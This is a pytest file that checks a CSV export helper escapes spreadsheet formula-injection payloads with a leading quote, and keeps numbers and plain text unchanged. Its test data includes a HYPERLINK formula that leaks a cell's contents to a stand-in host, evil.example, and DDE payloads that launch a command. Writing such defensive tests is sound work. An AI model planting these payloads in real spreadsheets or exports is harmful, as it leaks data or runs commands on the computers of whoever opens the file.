"""OWASP CSV injection: cells a spreadsheet would run as formulas are written as text."""

import csv
import io

import pytest

from shared.csv_export import SafeDictWriter, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_triggers_get_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["ehr-42", "a=b", "melanoma", " =padded", "", "0.5"])
def test_ordinary_text_is_untouched(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_even_negative_ones():
    assert safe_cell(-31.5) == -31.5  # a dark-skin ITA, not a formula
    assert safe_cell(0) == 0
    assert (safe_cell(None), safe_cell(True), safe_cell(False)) == ("", "true", "false")


def test_a_written_file_reads_back_with_every_payload_neutralised():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["external_id", "ita"])
    writer.writeheader()
    for payload in PAYLOADS:
        writer.writerow({"external_id": payload, "ita": -12.0})
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [r["external_id"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r["ita"] for r in rows} == {"-12.0"}
    assert not any(r["external_id"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
